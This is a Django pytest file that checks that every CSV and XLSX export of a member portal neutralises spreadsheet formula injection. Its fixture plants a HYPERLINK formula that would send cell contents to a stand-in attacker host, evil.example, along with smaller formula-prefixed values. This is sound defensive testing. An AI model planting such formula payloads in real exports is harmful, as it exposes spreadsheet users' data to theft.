"""Every CSV and XLSX the portal writes: text typed by members never becomes a spreadsheet
formula (CSV/formula injection), whichever export it goes through."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import get_resolver
from openpyxl import load_workbook

from alerts.services import alert_send
from bulletin.services import circular_publish
from common.spreadsheets import FORMULA_PREFIXES
from organizations.models import Organization
from status_board.services import ReportInput, status_report_create
from tests import factories

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@pytest.fixture
def poisoned(org_a, reporter_a, hq_user):
    """Every place a member types text that an export writes, filled with a formula."""
    Organization.objects.filter(pk=org_a.pk).update(name_ja=EVIL, name_en="+SUM(1,2)")
    org_a.refresh_from_db()
    factories.contact(org_a, "@evil contact", email="evil@example.test", notes="-2+3")
    factories.user("+evil", role="viewer", organization=org_a)  # a valid Django user name
    status_report_create(
        actor=reporter_a,
        organization=org_a,
        entry=ReportInput(
            function=org_a.organization_functions.first().function.code,
            status="degraded",
            message=EVIL,
        ),
    )
    alert = alert_send(actor=hq_user, subject_ja="件名", body_ja="本文", organizations=[org_a])
    circular = circular_publish(
        actor=hq_user,
        title_ja="受領確認",
        body_ja="本文",
        category="general",
        audience="organizations",
        organizations=[org_a.code],
        requires_ack=True,
    )
    from drills import services as drills

    drill = drills.drill_plan(
        actor=hq_user,
        title_ja="演習",
        scenario_ja="震度6強",
        audience="organizations",
        organizations=[org_a.code],
        answer_minutes=30,
        announced=False,
    )
    drill = drills.drill_close(actor=hq_user, drill=drills.drill_start(actor=hq_user, drill=drill))
    return {"alert": alert.pk, "number": circular.number, "drill": drill.pk}


def _exports(poisoned):
    return {
        "members_board_csv": "/members/board/export.csv",
        "members_board_xlsx": "/members/board/export.xlsx",
        "hq_alert_csv": f"/hq/alerts/{poisoned['alert']}/deliveries.csv",
        "circular_progress_csv": f"/circulars/{poisoned['number']}/progress.csv",
        "drill_report_csv": f"/drills/{poisoned['drill']}/report.csv",
        "drill_report_xlsx": f"/drills/{poisoned['drill']}/report.xlsx",
        "transfer_export": [
            f"/manage/export/{dataset}.{fmt}"
            for dataset in ("organizations", "contacts", "members")
            for fmt in ("csv", "xlsx")
        ],
    }


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
        return [cell for row in rows for cell in row]
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    return [str(c) for row in sheet.iter_rows(values_only=True) for c in row if c is not None]


def test_the_walk_covers_every_export_of_the_portal(poisoned):
    names = {
        p.name
        for p in get_resolver().url_patterns
        for p in getattr(p, "url_patterns", [p])
        if getattr(p, "name", None)
        and any(s in str(p.pattern) for s in (".csv", ".xlsx", "export/"))
    }
    assert names == set(_exports(poisoned))


def test_no_exported_cell_starts_a_formula(client, login, poisoned, hq_user, admin_user):
    checked = 0
    for name, urls in _exports(poisoned).items():
        for url in [urls] if isinstance(urls, str) else urls:
            login(admin_user if name == "transfer_export" else hq_user)
            response = client.get(url)
            assert response.status_code == 200, url
            cells = _cells(response)
            assert any("HYPERLINK" in c or "evil" in c for c in cells), url  # it was exported
            bad = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
            assert bad == [], (url, bad)
            checked += 1
    assert checked == 12
